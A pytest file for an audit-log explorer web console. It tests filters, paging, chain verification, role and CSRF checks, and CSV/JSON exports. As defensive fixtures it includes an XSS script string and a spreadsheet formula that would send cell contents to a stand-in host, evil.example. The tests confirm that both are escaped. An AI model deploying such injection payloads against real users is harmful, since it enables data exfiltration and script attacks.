"""The audit explorer over a real trail (records written by AuditLog): filters as the alerts
link them, pages without gaps, a record in full, a run's timeline, the chain's status and a
verification run by an operator, CSV and JSON-lines exports (read back; CSV-injection safe),
what pipelines named themselves shown as text, and the refusals (bad filters, roles, CSRF)."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from collections.abc import AsyncIterator, Awaitable, Callable
from html import unescape
from pathlib import Path
from typing import Any

import pytest

from lockgate.audit import AuditReader, AuditRecord
from lockgate.console import views_audit
from lockgate.console.views_audit_export import CSV_COLUMNS
from lockgate.console.web import ConsoleContext, ConsoleUser
from tests.console._views import (
    CSRF_TOKEN,
    Served,
    serving,
    signed_in,
    trail_context,
    write_trail,
)

T0 = 1_767_225_600.0  # 2026-01-01T00:00:00Z
XSS = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _records() -> list[AuditRecord]:
    out = []
    for i in range(120):
        denied = i % 10 == 3
        out.append(
            AuditRecord(
                event="denied" if denied else "allowed",
                ts=T0 + i * 30.0,
                deployment="prod",
                dag_id=XSS if i == 7 else ("etl" if i % 2 else "billing"),
                task_id=f"task{i % 3}",
                run_id=f"run-{i % 4}",
                try_number=1 + i % 2,
                principal=f"airflow:prod/etl/task{i % 3}",
                resource="orders",
                action="read" if i % 3 else "write",
                object=FORMULA if i == 11 else f"sales/orders/{i}",
                decision="deny" if denied else "allow",
                rule=None if denied else "etl-read",
                reason="no rule matches" if denied else None,
                status=None if denied else 200,
                latency_ms=None if denied else 1.5,
                jti=f"jti-{i % 5}",
                detail={"i": i, "shadow": {"decision": "deny", "rule": None}}
                if i == 9
                else {"i": i, "shadow": {"decision": "allow"}}
                if i == 19
                else {"i": i},
            )
        )
    return out


def _context(db: Path) -> ConsoleContext:
    return trail_context(db)  # the explorer only reads the trail


@pytest.fixture
def trail(tmp_path: Path) -> Path:
    db = tmp_path / "audit.db"
    write_trail(db, _records())
    return db


@pytest.fixture
async def serve() -> AsyncIterator[Callable[..., Awaitable[Served]]]:
    async with serving() as start:

        async def served(db: Path, user: ConsoleUser | None = None) -> Served:
            return await start(_context(db), views_audit.add_routes, user)

        yield served


def _seqs(html: str) -> list[int]:
    return [int(s) for s in re.findall(r'href="/console/audit/record/(\d+)"', html)]


def _older(html: str) -> str | None:
    found = re.search(r'<a href="([^"]+)" rel="next">Older</a>', html)
    return unescape(found.group(1)) if found else None


async def test_explorer_newest_first_with_counts_and_pages_without_gaps(
    trail: Path, serve: Callable[..., Any]
) -> None:
    client = await serve(trail)
    status, html, _ = await client.get("/console/audit")
    assert status == 200
    assert "120 records match" in html
    assert "not verified yet" in html
    seen = _seqs(html)
    assert seen == list(range(120, 70, -1))  # the first page: the newest 50
    path = _older(html)
    while path is not None:
        status, html, _ = await client.get(path)
        assert status == 200
        seen += _seqs(html)
        path = _older(html)
    assert seen == list(range(120, 0, -1))


async def test_the_filters_alerts_link_with_and_the_form_keeps_them(
    trail: Path, serve: Callable[..., Any]
) -> None:
    client = await serve(trail)
    # what an alert's link holds (alerts/model.py): dag, run, event, decision, resource, since
    query = (
        "dag=etl&run=run-1&event=denied&decision=deny&resource=orders&since=2026-01-01T00:30:00Z"
    )
    status, html, _ = await client.get(f"/console/audit?{query}")
    assert status == 200
    expected = [
        r.seq
        for r in AuditReader(trail).search(dag="etl", run="run-1", event="denied", limit=1000)
        if r.ts >= T0 + 1800
    ][::-1]
    assert expected and _seqs(html) == expected
    assert f"{len(expected)} records match" in html or f"{len(expected)} record match" in html
    assert 'value="etl"' in html and 'value="run-1"' in html
    assert 'value="2026-01-01T00:30:00"' in html  # datetime-local, UTC
    assert '<option value="denied" selected>' in html
    assert '<option value="deny" selected>' in html


@pytest.mark.parametrize(
    ("query", "count"),
    [
        ("task=task1&try=2", 20),
        ("action=write", 40),
        ("principal=airflow:prod/etl/task2&jti=jti-0", 8),
        ("since=2026-01-01T00:10&until=2026-01-01T00:20", 20),
        ("since=1767226200&until=1767226800", 20),
        ("deployment=stage", 0),
        ("shadow=1", 2),
        ("shadow=on&dag=etl", 2),
    ],
)
async def test_each_filter(trail: Path, serve: Callable[..., Any], query: str, count: int) -> None:
    client = await serve(trail)
    status, html, _ = await client.get(f"/console/audit?{query}")
    assert status == 200, html
    assert len(_seqs(html)) == count
    assert f"{count} record{'' if count == 1 else 's'} match" in html


@pytest.mark.parametrize(
    ("query", "problem"),
    [
        ("since=yesterday", "since: &#39;yesterday&#39; is not a time"),
        ("until=2026-13-01", "until: &#39;2026-13-01&#39; is not a time"),
        ("try=two", "try: &#39;two&#39; is not a whole number"),
        ("older=not-a-cursor", "malformed page cursor"),
    ],
)
async def test_a_filter_it_cannot_read_is_a_400_naming_it(
    trail: Path, serve: Callable[..., Any], query: str, problem: str
) -> None:
    client = await serve(trail)
    status, html, _ = await client.get(f"/console/audit?{query}")
    assert status == 400
    assert problem in html and 'role="alert"' in html


async def test_what_pipelines_named_themselves_is_text(
    trail: Path, serve: Callable[..., Any]
) -> None:
    client = await serve(trail)
    for path in (
        "/console/audit?run=run-3",
        "/console/audit/record/8",
        "/console/audit/run?run=run-3",
    ):
        status, html, _ = await client.get(path)
        assert status == 200
        assert XSS not in html
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


async def test_a_record_in_full(trail: Path, serve: Callable[..., Any]) -> None:
    client = await serve(trail)
    row = AuditReader(trail).record(10)
    assert row is not None
    status, html, _ = await client.get("/console/audit/record/10")
    assert status == 200
    assert row.hash in html and row.prev_hash in html
    assert "sales/orders/9" in html and "&#34;shadow&#34;" in html  # the detail, pretty
    assert 'href="/console/audit/run?dag=etl&amp;run=run-1"' in html
    assert 'href="/console/audit?jti=jti-4"' in html
    status, html, _ = await client.get("/console/audit/record/999")
    assert status == 404 and "no record 999" in html


async def test_a_runs_timeline_marks_every_record_and_denials_stand_out(
    trail: Path, serve: Callable[..., Any]
) -> None:
    client = await serve(trail)
    status, html, _ = await client.get("/console/audit/run?dag=etl&run=run-3")
    assert status == 200
    rows = AuditReader(trail).search(dag="etl", run="run-3", limit=1000)
    assert len(re.findall(r'<circle class="mark ', html)) == len(rows)
    denied = [r for r in rows if r.decision == "deny"]
    assert denied and len(re.findall(r'class="mark deny"', html)) == len(denied)
    for r in rows:
        assert f'href="/console/audit/record/{r.seq}"' in html
    assert "style=" not in html  # the CSP blocks inline styles
    assert f"{len(rows)} records in" in html  # the text alternative
    status, html, _ = await client.get("/console/audit/run?dag=etl")
    assert status == 400 and "run: required" in html


async def test_verification_by_an_operator_and_the_badge(
    trail: Path, serve: Callable[..., Any]
) -> None:
    viewer = await serve(trail, signed_in("viewer", "vic"))
    status, html, _ = await viewer.get("/console/audit/verify")
    assert status == 200 and "not verified yet" in html and "Verify the chain now" not in html
    assert await viewer.post("/console/audit/verify", {"csrf": CSRF_TOKEN}) == 403

    operator = await serve(trail, signed_in("operator", "olga"))
    assert await operator.post("/console/audit/verify", {"csrf": "wrong"}) == 403
    assert await operator.post("/console/audit/verify", {"csrf": CSRF_TOKEN}, origin=False) == 403
    assert await operator.post("/console/audit/verify", {"csrf": CSRF_TOKEN}) == 303
    status, html, _ = await operator.get("/console/audit/verify")
    assert status == 200 and "intact" in html and "120" in html
    status, html, _ = await operator.get("/console/audit")
    assert "intact</span> up to record 120" in html

    # tampered with underneath: the next verification says where
    conn = sqlite3.connect(trail)
    conn.execute("DROP TRIGGER audit_no_update")
    conn.execute("UPDATE audit SET object = 'edited' WHERE seq = 42")
    conn.commit()
    conn.close()
    assert await operator.post("/console/audit/verify", {"csrf": CSRF_TOKEN}) == 303
    status, html, _ = await operator.get("/console/audit")
    assert "BROKEN</span> at record 42" in html


async def test_csv_export_reads_back_and_is_injection_safe(
    trail: Path, serve: Callable[..., Any]
) -> None:
    client = await serve(trail)
    status, body, headers = await client.get("/console/audit/export.csv?dag=etl")
    assert status == 200
    assert headers["Content-Type"].startswith("text/csv")
    assert headers["Content-Disposition"].startswith('attachment; filename="lockgate-audit-')
    assert headers.get("Transfer-Encoding") == "chunked"
    table = list(csv.DictReader(io.StringIO(body)))
    expected = AuditReader(trail).search(dag="etl", limit=1000)[::-1]
    assert [int(r["seq"]) for r in table] == [r.seq for r in expected]
    assert list(table[0]) == list(CSV_COLUMNS)
    (formula,) = [r for r in table if r["seq"] == "12"]
    assert formula["object"] == "'" + FORMULA  # a spreadsheet shows it, never runs it
    assert json.loads(formula["detail"]) == {"i": 11}
    assert formula["time_utc"] == "2026-01-01 00:05:30.000Z"
    status, body, _ = await client.get("/console/audit/export.csv?since=tomorrow")
    assert status == 400


async def test_json_lines_export_holds_every_match_across_pages(
    trail: Path, serve: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    from lockgate.console import views_audit_export

    monkeypatch.setattr(views_audit_export, "EXPORT_PAGE", 7)  # several pages
    client = await serve(trail)
    status, body, headers = await client.get("/console/audit/export.json?decision=allow")
    assert status == 200 and headers["Content-Type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in body.splitlines()]
    expected = AuditReader(trail).search(decision="allow", limit=1000)[::-1]
    assert [line["seq"] for line in lines] == [r.seq for r in expected]
    assert lines[0] == expected[0].to_dict()

    monkeypatch.setattr(views_audit_export, "EXPORT_CAP", 10)
    status, body, headers = await client.get("/console/audit/export.json")
    assert [json.loads(line)["seq"] for line in body.splitlines()] == list(range(120, 110, -1))
    assert headers["X-Lockgate-Export-Cap"] == "10"


async def test_an_empty_trail(tmp_path: Path, serve: Callable[..., Any]) -> None:
    client = await serve(tmp_path / "audit.db")
    status, html, _ = await client.get("/console/audit")
    assert status == 200 and "0 records match" in html and "No record matches" in html
    status, body, _ = await client.get("/console/audit/export.csv")
    assert status == 200 and body.splitlines() == [",".join(CSV_COLUMNS)]


async def test_shared_trail_pages_and_records_by_replica(
    tmp_path: Path, serve: Callable[..., Any], pg_state: Callable[..., Any]
) -> None:
    from tests.audit.shared_helpers import shipping

    settings = pg_state()
    for replica, records in (("r1", _records()[:70]), ("r2", _records()[70:])):
        # closing the log ships what is committed
        write_trail(tmp_path / replica / "audit.db", records, shipping=shipping(replica, settings))
    db = tmp_path / "r1" / "audit.db"
    ctx = _context(db)
    ctx.audit_reader = lambda: AuditReader(db, shipping=shipping("r1", settings))
    async with serving() as start:
        client = await start(ctx, views_audit.add_routes)
        status, html, _ = await client.get("/console/audit")
        assert status == 200 and "120 records match" in html
        links = re.findall(r'href="/console/audit/record/(\d+)\?replica=(r\d)"', html)
        path, pages = _older(html), [links]
        while path is not None:
            status, html, _ = await client.get(path)
            pages.append(re.findall(r'href="/console/audit/record/(\d+)\?replica=(r\d)"', html))
            path = _older(html)
        seen = [link for page in pages for link in page]
        # newest first across both replicas (r2 holds the newer half), none twice
        expected = [(str(s), "r2") for s in range(50, 0, -1)]
        expected += [(str(s), "r1") for s in range(70, 0, -1)]
        assert seen == expected
        status, html, _ = await client.get("/console/audit/record/5?replica=r2")
        assert status == 200 and "sales/orders/74" in html and "of replica r2" in html
        status, html, _ = await client.get("/console/audit/record/71?replica=r1")
        assert status == 404
        status, body, _ = await client.get("/console/audit/export.csv?run=run-2")
        table = list(csv.DictReader(io.StringIO(body)))
        assert {r["replica"] for r in table} == {"r1", "r2"} and len(table) == 30


async def test_the_dag_and_resource_fields_suggest_names_seen_lately(
    tmp_path: Path, serve: Callable[..., Any]
) -> None:
    import time

    now = time.time()
    db = tmp_path / "audit.db"
    write_trail(
        db,
        [
            AuditRecord("allowed", ts=now - 60, dag_id="fresh_dag", resource="orders-api"),
            AuditRecord("denied", ts=now - 30, dag_id=XSS, resource="billing-db"),
            AuditRecord("allowed", ts=now - 90 * 86_400, dag_id="old_dag", resource="old-db"),
        ],
    )
    client = await serve(db)
    status, html, _ = await client.get("/console/audit")
    assert status == 200
    dags = re.search(r'<datalist id="dag-names">(.*?)</datalist>', html)
    resources = re.search(r'<datalist id="resource-names">(.*?)</datalist>', html)
    assert dags is not None and resources is not None
    assert re.findall(r'value="([^"]*)"', dags.group(1)) == [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "fresh_dag",
    ]
    assert re.findall(r'value="([^"]*)"', resources.group(1)) == ["billing-db", "orders-api"]
    assert 'list="dag-names"' in html and 'list="resource-names"' in html
